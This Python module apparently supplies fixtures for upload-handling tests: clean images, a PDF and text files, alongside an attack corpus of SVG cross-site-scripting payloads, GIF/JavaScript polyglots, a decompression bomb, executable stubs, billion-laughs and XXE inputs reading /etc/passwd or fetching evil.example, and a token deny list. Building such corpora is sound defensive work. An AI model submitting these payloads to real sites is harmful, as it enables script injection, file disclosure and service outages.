"""Files for the upload tests: legitimate ones made with Pillow (or by hand, to the spec), and an
attack corpus. Everything is built in the test run; nothing is downloaded."""

from __future__ import annotations

import io
import zipfile

from PIL import Image, ImageDraw


def _image(fmt: str, *, size: tuple[int, int] = (64, 48), mode: str = "RGB", **save: object) -> bytes:
    im = Image.new(mode, size, "white" if mode != "P" else 0)
    if mode == "P":
        im.putpalette([0, 0, 0, 255, 0, 0, 0, 128, 255] + [0] * (256 * 3 - 9))
    draw = ImageDraw.Draw(im)
    if min(size) < 48:
        out = io.BytesIO()
        im.save(out, fmt, **save)
        return out.getvalue()
    draw.rectangle((8, 8, size[0] - 8, size[1] - 8), fill=1 if mode == "P" else (200, 30, 30))
    draw.ellipse((20, 12, 40, 32), fill=2 if mode == "P" else (0, 90, 200))
    out = io.BytesIO()
    im.save(out, fmt, **save)
    return out.getvalue()


def png(**kw: object) -> bytes:
    return _image("PNG", **kw)


def jpeg(**kw: object) -> bytes:
    return _image("JPEG", quality=85, **kw)


def webp(**kw: object) -> bytes:
    return _image("WEBP", **kw)


def gif(**kw: object) -> bytes:
    return _image("GIF", mode="P", **kw)


def pdf(text: bytes = b"Quarterly brand guide", *, extra_objects: tuple[bytes, ...] = (), header: bytes = b"") -> bytes:
    """A minimal valid PDF 1.4 (one page of Helvetica text) with a correct xref table."""
    content = b"BT /F1 12 Tf 20 50 Td (" + text + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.4\n" + header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


TEXT = "Brand voice notes — keep it short.\r\nTabs\tare fine. Ünïcödé too: 日本語 ✓\n".encode()
MARKDOWN = "# Brand guide\n\n* Logo: blue on white\n* Tone: *friendly*\n\n```\ncode block\n```\n".encode()
CSV = "name,amount,note\nÄpfel,3,\"with, comma\"\nBirnen,-4,=not a formula here\n".encode()

CLEAN_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- exported by an editor -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 60" width="120" height="60">
  <title>Acme logo</title>
  <defs>
    <linearGradient id="brand" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#1a73e8"/>
      <stop offset="1" stop-color="#0b3d91"/>
    </linearGradient>
    <clipPath id="clip"><rect width="120" height="60" rx="8"/></clipPath>
  </defs>
  <g clip-path="url(#clip)">
    <rect width="120" height="60" fill="url(#brand)"/>
    <circle cx="30" cy="30" r="18" fill="#fff" style="stroke:#000;stroke-width:2"/>
    <path d="M60 15 L100 15 L80 45 Z" fill="#ffd700"/>
    <use xlink:href="#dot" x="10"/>
  </g>
  <text x="60" y="55" font-family="sans-serif" font-size="8">ACME &amp; Co</text>
</svg>
"""


def zip_archive(*, jar: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        if jar:
            zf.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
            zf.writestr("Evil.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34")
        else:
            zf.writestr("payload.txt", "hello")
    return out.getvalue()


# A PE stub: what a renamed Windows executable starts with.
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"PE\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + b"\x00" * 40


def gif_js_polyglot() -> bytes:
    """`GIF89a/*...*/=alert(1);`: a GIF whose header opens a JavaScript comment."""
    return b"GIF89a/*" + gif()[8:] + b"*/=alert(1);"


def gif_js_polyglot_inside() -> bytes:
    """The subtler form: a structurally valid GIF (the JavaScript hides in a comment extension)."""
    body = gif(comment=b"*/=alert(document.domain)//")
    return b"GIF89a/*" + body[8:]


def png_bomb() -> bytes:
    """20000 × 20000 pixels (400 MP) in a few tens of kilobytes: a decompression bomb."""
    out = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, "PNG", optimize=True)
    return out.getvalue()


SVG_XSS = {
    "script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="5" height="5"/></svg>',
    "script_cdata": b'<svg xmlns="http://www.w3.org/2000/svg"><script type="text/ecmascript"><![CDATA[alert(1)]]></script></svg>',
    "onload": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="5" height="5" onclick="alert(2)"/></svg>',
    "javascript_href": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    b'<a xlink:href="javascript:alert(1)"><text>click</text></a><a href=" JaVa&#x09;ScRiPt:alert(1)"><text>me</text></a></svg>',
    "foreign_object": b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100">'
    b'<body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe><img src="x" onerror="alert(1)"/>'
    b"</body></foreignObject></svg>",
    "external_use": b'<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/sprite.svg#icon"/></svg>',
    "data_use": b'<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    "css_url_javascript": b'<svg xmlns="http://www.w3.org/2000/svg"><style>rect { fill: url(javascript:alert(1)) }</style>'
    b'<rect width="5" height="5" style="fill: url(javascript:alert(1))"/></svg>',
    "css_import": b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style>'
    b'<rect width="5" height="5" style="background-image: url(https://evil.example/track.png)"/></svg>',
    "css_escape": b'<svg xmlns="http://www.w3.org/2000/svg"><style>rect { background: \\75 rl(https://evil.example/) }</style></svg>',
    "css_expression": b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="5" height="5" style="width: expression(alert(1))"/></svg>',
    "animate_href": b'<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" to="javascript:alert(1)"/>'
    b"<text>x</text></a></svg>",
    "set_href": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a>'
    b'<set attributeName="xlink:href" to="javascript:alert(1)" begin="0s"/><text>x</text></a></svg>',
    "external_fill": b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="5" height="5" fill="url(https://evil.example/#g)"/></svg>',
    "image_external": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/track.png" width="1" height="1"/></svg>',
    "xhtml_script": b'<svg xmlns="http://www.w3.org/2000/svg"><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>',
    "stylesheet_pi": b'<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><!-- <script>alert(1)</script> --><rect width="5" height="5"/></svg>',
    "xinclude": b'<svg xmlns="http://www.w3.org/2000/svg"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
    b'href="file:///etc/passwd" parse="text"/></svg>',
}
# What must not be in the stored form of any of them.
SVG_XSS_TOKENS = (b"script", b"javascript", b"onload", b"onclick", b"onerror", b"foreignobject", b"evil.example",
                  b"data:", b"@import", b"expression", b"animate", b"<set", b"iframe", b"xml-stylesheet", b"passwd",
                  b"include", b"<image")

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>
"""

XXE_EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">
<svg xmlns="http://www.w3.org/2000/svg"/>
"""
